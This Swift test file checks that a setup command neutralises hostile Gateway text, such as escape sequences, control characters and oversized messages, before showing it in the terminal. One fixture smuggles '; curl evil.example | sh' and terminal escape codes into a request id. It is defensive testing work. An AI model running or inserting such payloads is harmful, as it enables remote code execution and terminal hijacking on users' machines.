import Foundation
import TalkBench
import TalkTestSupport
import Testing

@testable import SessionBridge

/// Strings a hostile Gateway controls reach the terminal neutralised: no escape sequence, bell or
/// control character gets through, long text is cut, and a request id that is not an id is never
/// offered as a command to paste.
@Suite(.serialized) struct SetupHostileTextTests {
    static let token = "hostile-text-token"

    static func rawControls(_ text: String) -> [UInt32] {
        text.unicodeScalars.map(\.value).filter { ($0 < 0x20 && $0 != 0x0A) || (0x7F...0x9F).contains($0) }
    }

    static func gateway(_ extra: [String] = []) async throws -> ReferenceGatewayProcess {
        try await offPool {
            try ReferenceGatewayProcess(repositoryRoot: TestInputs.packageRoot, arguments: ["--token", Self.token] + extra)
        }
    }

    @Test(.requires(.builtBinary)) func `a pairing request id with escapes and shell syntax is not offered as a command`() async throws {
        let gw = try await Self.gateway(["--remote"])
        defer { gw.stop() }
        let command = try BuiltCommand()
        defer { command.removeHome() }
        let hostile: JSONValue = ["cmd": "pairing-request-id", "requestId": "1b2c\u{1B}[2J\u{1B}]0;owned\u{07}; curl evil.example | sh"]
        _ = try await offPool { try gw.control(hostile.jsonText) }
        let running = try command.start(["setup", "--gateway", gw.startup.url], environment: ["OPENCLAW_TALK_TOKEN": Self.token])
        // The hint is the approval wait's last line: once it shows, everything setup says of the request has.
        #expect(await running.waitForStderr("openclaw devices list"), "stderr: \(running.stderrSoFar)")
        kill(running.process.processIdentifier, SIGINT)
        let r = try await running.finish(timeout: .seconds(20))
        #expect(!r.stderr.contains("devices approve"), "a hostile id was offered as a command: \(r.stderr)")
        #expect(r.stderr.contains("openclaw devices list"), "stderr: \(r.stderr)")
        #expect(!r.stderr.contains("curl"), "stderr: \(r.stderr)")
        #expect(Self.rawControls(r.stderr).isEmpty, "raw control characters: \(Self.rawControls(r.stderr))")
    }

    @Test(.requires(.builtBinary)) func `a refusal with escape sequences and a huge message is shown neutralised and cut`() async throws {
        let gw = try await Self.gateway(["--auto-approve"])
        defer { gw.stop() }
        let command = try BuiltCommand()
        defer { command.removeHome() }
        let message = "\u{1B}]0;owned\u{07}\u{1B}[31mred\u{9B}2J\u{202E}desrever" + String(repeating: "A", count: 20_000)
        let refusal: JSONValue = ["cmd": "fail-connect", "code": "X_WEIRD\u{1B}[2J", "count": 5, "message": .string(message)]
        _ = try await offPool { try gw.control(refusal.jsonText) }
        let r = try await command.run(["setup", "--gateway", gw.startup.url], environment: ["OPENCLAW_TALK_TOKEN": Self.token])
        #expect(r.status == 1, "stderr: \(r.stderr)")
        #expect(r.stderr.contains(#"X_WEIRD\u{1B}[2J"#), "stderr: \(r.stderr)")
        #expect(r.stderr.contains(#"\u{1B}]0;owned\u{7}\u{1B}[31mred\u{9B}2J\u{202E}desrever"#), "stderr: \(r.stderr)")
        #expect(Self.rawControls(r.stderr).isEmpty, "raw control characters: \(Self.rawControls(r.stderr))")
        #expect(!r.stderr.unicodeScalars.contains("\u{202E}"))
        #expect(r.stderr.count < 2_000, "the Gateway's message was not cut: \(r.stderr.count) characters")
    }
}
